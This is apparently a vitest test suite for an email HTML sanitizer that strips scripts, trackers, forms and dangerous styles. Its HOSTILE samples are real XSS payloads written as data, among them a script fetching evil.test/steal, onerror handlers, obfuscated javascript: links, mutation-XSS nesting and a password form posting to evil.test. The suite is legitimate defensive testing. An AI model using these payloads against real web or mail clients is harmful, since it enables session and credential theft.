import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { buildMessagePreview } from '../../src/mail/message-preview.js';
import { renderSafeHtml, safeHtmlDocument, SAFE_HTML_CSP } from '../../src/mail/safe-html.js';
import { sanitizeStyle } from '../../src/mail/safe-style.js';

const FIXTURES = join(import.meta.dirname, '..', 'fixtures', 'eml');

/** Every element and attribute of rendered markup, as a browser's parser would see them. */
function markupOf(html: string): { tags: Set<string>; attributes: Set<string>; values: string[] } {
  const tags = new Set<string>();
  const attributes = new Set<string>();
  const values: string[] = [];
  const parser = new Parser({
    onopentag(name, attrs) {
      tags.add(name);
      for (const [key, value] of Object.entries(attrs)) {
        attributes.add(key);
        values.push(value);
      }
    },
  }, { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true });
  parser.end(html);
  return { tags, attributes, values };
}

const INERT_ATTRIBUTES = new Set(['class', 'role', 'aria-label', 'style', 'align', 'valign', 'width', 'height', 'colspan', 'rowspan', 'border', 'cellpadding', 'cellspacing', 'bgcolor', 'color', 'face', 'size', 'dir', 'lang', 'title', 'start', 'span', 'nowrap', 'abbr', 'scope', 'reversed']);

const HOSTILE = [
  '<script>fetch("https://evil.test/steal")</script><p onclick="alert(1)" onmouseover=alert(2)>Hi</p>',
  '<img src="https://tracker.test/pixel.gif?u=bob" srcset="https://tracker.test/2x.gif 2x" alt="logo"><img src=cid:part1>',
  '<a href="java\tscript:alert(1)">click</a><a href="data:text/html;base64,PHNjcmlwdD4=">data</a><a href=" JAVASCRIPT:alert(1)">x</a>',
  '<table background="https://tracker.test/bg.png"><tr><td style="background:url(https://tracker.test/c.png);color:red">cell</td></tr></table>',
  '<style>@import url(https://tracker.test/a.css); body{background:url(https://tracker.test/b.png)}</style><link rel=stylesheet href=https://tracker.test/c.css>',
  '<iframe src="https://evil.test/"></iframe><object data="https://evil.test/x.swf"></object><embed src="https://evil.test/e"><svg><image href="https://tracker.test/s.png"/></svg>',
  '<form action="https://evil.test/collect" method=post><input type=password name=pass><input type=hidden name=t value=1><button formaction="https://evil.test/b">Go</button><select><option>a</option></select></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/"><base href="https://evil.test/"><video poster="https://tracker.test/p.png" src="https://tracker.test/v.mp4"></video>',
  '<div title=\'" onmouseover="alert(1)\'>quoted</div><p style="x:expression(alert(1));width:expression(1)">ie</p><div style="behavior:url(x.htc);-moz-binding:url(x.xml)">old</div>',
  '<a href="https://evil.test/"><a href="https://inner.test/">nested</a></a><p>unclosed <b>bold <i>italic</p></div></div></span>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--[if mso]><img src="https://tracker.test/mso.png"><![endif]--><p>after comment</p>',
  '<svg><script>alert(1)</script></svg><template><img src="https://tracker.test/t.png"></template>',
  '<p style="background-image: image-set(&quot;https://tracker.test/i.png&quot; 1x)">set</p><p style="color: red; font-family: \'Segoe UI\', Arial">font</p>',
];

describe('renderSafeHtml', () => {
  it.each(HOSTILE.map((html, i) => [i, html] as const))('leaves nothing that runs, loads or links (sample %i)', (_i, html) => {
    const rendered = renderSafeHtml(html);
    const { tags, attributes, values } = markupOf(rendered.html);
    for (const tag of ['script', 'style', 'img', 'a', 'iframe', 'object', 'embed', 'svg', 'form', 'input', 'button', 'meta', 'link', 'base', 'video', 'math', 'template', 'noscript']) {
      expect(tags.has(tag), `<${tag}> in ${rendered.html}`).toBe(false);
    }
    for (const attribute of attributes) expect(INERT_ATTRIBUTES.has(attribute), `attribute ${attribute} in ${rendered.html}`).toBe(true);
    for (const value of values) expect(value).not.toMatch(/url\s*\(|expression|image-set|javascript:/i);
  });

  it('shows each link as its text followed by its real target, never as a link', () => {
    const safeLinks = 'https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fevil.example%2Flogin&data=05%7C01&reserved=0';
    const rendered = renderSafeHtml(`<p>Pay at <a href="${safeLinks}">www.bank.example</a> or <a href="https://evil.example/x">here</a>.</p>`);
    expect(rendered.links.map((l) => [l.text, l.target, l.wrappers])).toEqual([
      ['www.bank.example', 'https://evil.example/login', ['Microsoft Safe Links']],
      ['here', 'https://evil.example/x', []],
    ]);
    expect(rendered.html).toContain('<span class="pg-link">www.bank.example</span> <span class="pg-target">→ https://evil.example/login <span class="pg-via">(unwrapped from Microsoft Safe Links)</span></span>');
    expect(rendered.html).not.toContain('href');
  });

  it('marks script and data links as removed, whatever their spelling', () => {
    const rendered = renderSafeHtml('<a href="java\tscript:alert(1)">a</a><a href=" DATA:text/html,x">b</a><a href="mailto:boss@corp.example">c</a>');
    expect(rendered.links.map((l) => [l.scheme, l.dangerous])).toEqual([['javascript', true], ['data', true], ['mailto', false]]);
    expect(rendered.html).toContain('[javascript: link removed]');
    expect(rendered.html).toContain('→ mailto:boss@corp.example');
    expect(rendered.html).not.toContain('alert');
  });

  it('replaces images by placeholders naming their origin, and counts what it removed', () => {
    const rendered = renderSafeHtml('<img src="https://tracker.test/p.gif" alt="Your bank"><img src="cid:logo"><script>x</script><p onclick="y">t</p>');
    expect(rendered.images).toBe(2);
    expect(rendered.html).toContain('[image: Your bank from tracker.test — not loaded]');
    expect(rendered.html).toContain('[image (embedded) — not loaded]');
    expect(rendered.removed).toEqual({ script: 1, 'event handler': 1 });
  });

  it('escapes text and attribute values (decoded entities are re-encoded)', () => {
    const rendered = renderSafeHtml('<p title="a&quot;b">&lt;script&gt;alert(1)&lt;/script&gt; &amp; done</p>');
    expect(rendered.html).toBe('<p title="a&quot;b">&lt;script&gt;alert(1)&lt;/script&gt; &amp; done</p>');
  });

  it('shows form controls as labelled placeholders and the form target', () => {
    const rendered = renderSafeHtml('<form action="https://evil.example/post"><label>Password</label><input type="password" name="pw"><button>Sign in</button></form>');
    expect(rendered.html).toBe(
      '<div class="pg-form"><span class="pg-note">[form, would submit <span class="pg-target">→ https://evil.example/post</span>]</span><label>Password</label><span class="pg-field">[password field: pw]</span><span class="pg-button">[button: Sign in]</span></div>',
    );
  });

  it('balances whatever it is given and stops at the nesting cap', () => {
    expect(renderSafeHtml('<div><b>open').html).toBe('<div><b>open</b></div>');
    const deep = renderSafeHtml('<div>'.repeat(1000) + 'x');
    expect(deep.truncated).toBe(true);
    expect(deep.html.match(/<div>/g)!.length).toBe(deep.html.match(/<\/div>/g)!.length);
  });

  it('does linear work: ten times the input costs about ten times the time', () => {
    const unit = '<a href="https://x.example/?url=https%3A%2F%2Fy.example"><span style="color:red">t</span></a><img src="https://i.example/a.png">';
    const time = (n: number): number => {
      const input = unit.repeat(n);
      const start = process.hrtime.bigint();
      renderSafeHtml(input, { maxInputChars: 10_000_000 });
      return Number(process.hrtime.bigint() - start);
    };
    time(500);
    const small = Math.min(time(2000), time(2000));
    const large = Math.min(time(20000), time(20000));
    expect(large / small).toBeLessThan(40);
  });

  it('wraps the result in a document meant for a sandboxed frame', () => {
    const doc = safeHtmlDocument(renderSafeHtml('<p>hello</p>'));
    expect(doc).toMatch(/^<!doctype html><html><head><meta charset="utf-8">/);
    expect(doc).toContain('<body><p>hello</p></body>');
    expect(SAFE_HTML_CSP).toMatch(/default-src 'none'/);
    expect(SAFE_HTML_CSP).toMatch(/img-src 'none'/);
    expect(SAFE_HTML_CSP).toMatch(/\bsandbox$/);
  });
});

describe('sanitizeStyle', () => {
  it.each([
    ['color: red; background-color:#fff', 'color: red; background-color: #fff'],
    ['background: url(https://t.test/x.png); color: blue', 'color: blue'],
    ['display:none; visibility:hidden; position:fixed; opacity:0', ''],
    ['font-size: 0px; font-weight: bold', 'font-weight: bold'],
    ['font-size: small', 'font-size: small'],
    ['width: expression(alert(1)); width: 10px', 'width: 10px'],
    ['color: r\\65 d; margin: 0 /* */', ''],
    ['font-family: "Segoe UI", Arial', 'font-family: "Segoe UI", Arial'],
  ])('%s → %s', (input, output) => {
    expect(sanitizeStyle(input)).toBe(output);
  });
});

describe('buildMessagePreview', () => {
  it('reads every fixture into headers, text and inert HTML', async () => {
    for (const name of readdirSync(FIXTURES).filter((f) => f.endsWith('.eml'))) {
      const preview = await buildMessagePreview(readFileSync(join(FIXTURES, name)));
      expect(preview.headers.length, name).toBeGreaterThan(0);
      if (preview.html) expect(preview.html.html, name).not.toMatch(/<(?:img|a|script|style)\b/i);
    }
  });

  it('explains instead of failing when the bytes are not a message', async () => {
    const preview = await buildMessagePreview(Buffer.from('\r\n\r\n'));
    expect(preview.headers).toEqual([]);
    expect(preview.notes[0]).toMatch(/could not be read as RFC 822/);
  });
});
